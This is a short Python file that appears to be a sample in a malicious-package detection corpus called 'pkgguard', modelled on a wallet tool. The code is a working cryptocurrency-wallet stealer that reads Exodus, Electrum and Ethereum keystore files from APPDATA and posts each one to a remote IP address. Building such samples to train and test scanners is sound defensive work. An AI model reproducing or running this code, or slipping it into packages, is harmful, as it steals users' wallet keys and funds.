# pkgguard corpus 079 (wallets), modelled on [wallet-tools]; inert, never run.
import os
import requests

APPDATA = os.getenv("APPDATA")
targets = [
    os.path.join(APPDATA, "Exodus", "exodus.wallet"),
    os.path.join(APPDATA, "Electrum", "wallets"),
    os.path.join(APPDATA, "Ethereum", "keystore"),
]
for t in targets:
    if os.path.isdir(t):
        for name in os.listdir(t):
            requests.post("http://100.64.60.6/w", files={"f": open(os.path.join(t, name), "rb")})
